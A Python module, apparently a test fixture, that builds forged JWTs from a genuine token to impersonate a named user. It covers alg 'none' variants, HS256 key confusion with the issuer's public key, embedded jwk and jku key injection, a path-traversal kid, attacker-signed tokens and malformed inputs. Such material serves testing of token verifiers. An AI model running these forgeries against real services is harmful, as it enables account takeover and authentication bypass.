"""Forged tokens, made from a genuine token without the issuer's private key."""

import base64
import hashlib
import hmac
import json
from typing import Any

from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt import PyJWK

Json = dict[str, Any]


def encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def header_of(token: str) -> Json:
    header: Json = json.loads(decode(token.split(".")[0]))
    return header


def claims_of(token: str) -> Json:
    claims: Json = json.loads(decode(token.split(".")[1]))
    return claims


def signing_input(header: Json, claims: Json) -> str:
    return f"{encode(json.dumps(header).encode())}.{encode(json.dumps(claims).encode())}"


def sign_hs256(header: Json, claims: Json, secret: bytes) -> str:
    message = signing_input(header, claims)
    return f"{message}.{encode(hmac.digest(secret, message.encode(), hashlib.sha256))}"


def sign_rs256(header: Json, claims: Json, key: rsa.RSAPrivateKey) -> str:
    message = signing_input(header, claims)
    return f"{message}.{encode(key.sign(message.encode(), padding.PKCS1v15(), SHA256()))}"


def public_jwk(key: rsa.RSAPrivateKey, kid: str) -> Json:
    numbers = key.public_key().public_numbers()
    return {
        "kty": "RSA",
        "use": "sig",
        "alg": "RS256",
        "kid": kid,
        "n": encode(numbers.n.to_bytes((numbers.n.bit_length() + 7) // 8)),
        "e": encode(numbers.e.to_bytes(3)),
    }


def forgeries(token: str, victim: str, jwks: bytes) -> dict[str, str]:
    """Forged tokens by name, made from a genuine `token` of an issuer that publishes `jwks`.

    Forgeries with altered claims impersonate the user `victim`.
    """
    head, body, signature = token.split(".")
    header, claims = header_of(token), claims_of(token)
    as_victim = {**claims, "sub": victim, "user_id": victim}
    victim_body = encode(json.dumps(as_victim).encode())
    flipped = bytearray(decode(signature))
    flipped[len(flipped) // 2] ^= 1
    own = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = next(key for key in json.loads(jwks)["keys"] if key["kid"] == header["kid"])
    public = PyJWK(jwk).key
    spki = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    pkcs1 = public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
    der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)

    forged = {
        "payload altered": f"{head}.{victim_body}.{signature}",
        "signature altered": f"{head}.{body}.{encode(bytes(flipped))}",
        "signature truncated": f"{head}.{body}.{encode(decode(signature)[:-1])}",
        "signature omitted": f"{head}.{body}.",
        "two parts": f"{head}.{body}",
        "four parts": f"{token}.{signature}",
        "empty payload": f"{head}..{signature}",
        "signature of zeros": f"{head}.{body}.{encode(bytes(256))}",
        "not a token": "abc",
        "deeply nested header": f"{encode(b'[' * 5000)}.{body}.{signature}",
        "very long": f"{head}.{'A' * 30_000}.{signature}",
        "header is a list": f"{encode(b'[]')}.{body}.{signature}",
        "signed with the attacker's key": sign_rs256(header, as_victim, own),
        "unknown kid": sign_rs256({**header, "kid": "unknown"}, as_victim, own),
        "no kid": sign_rs256({"alg": "RS256", "typ": "at+jwt"}, as_victim, own),
        "kid is a path": sign_rs256({**header, "kid": "../../dev/null"}, as_victim, own),
        "kid is a number": sign_rs256({**header, "kid": 1}, as_victim, own),
        "attacker's key in jwk": sign_rs256(
            {**header, "jwk": public_jwk(own, "own")}, as_victim, own
        ),
        "attacker's key by jku": sign_rs256(
            {**header, "jku": "http://127.0.0.1:9/jwks.json"}, as_victim, own
        ),
        "unknown crit": sign_rs256({**header, "crit": ["exp"]}, as_victim, own),
    }
    for alg in ("none", "None", "NONE", "nOnE"):
        unsigned = signing_input({**header, "alg": alg}, as_victim)
        forged[f"alg {alg}, no signature"] = f"{unsigned}."
        forged[f"alg {alg}, original signature"] = f"{unsigned}.{signature}"
    secrets = {
        "the public key as PEM": spki,
        "the public key as PEM without the last line feed": spki.rstrip(b"\n"),
        "the public key as PKCS 1 PEM": pkcs1,
        "the public key as DER": der,
        "the bytes of the key set": jwks,
        "the modulus": decode(jwk["n"]),
        "the modulus as text": jwk["n"].encode(),
        "the kid": header["kid"].encode(),
        "an empty secret": b"",
    }
    for name, secret in secrets.items():
        forged[f"HS256 with {name}"] = sign_hs256({**header, "alg": "HS256"}, as_victim, secret)
        forged[f"RS256 in the header, HMAC with {name}"] = sign_hs256(header, as_victim, secret)
    return forged
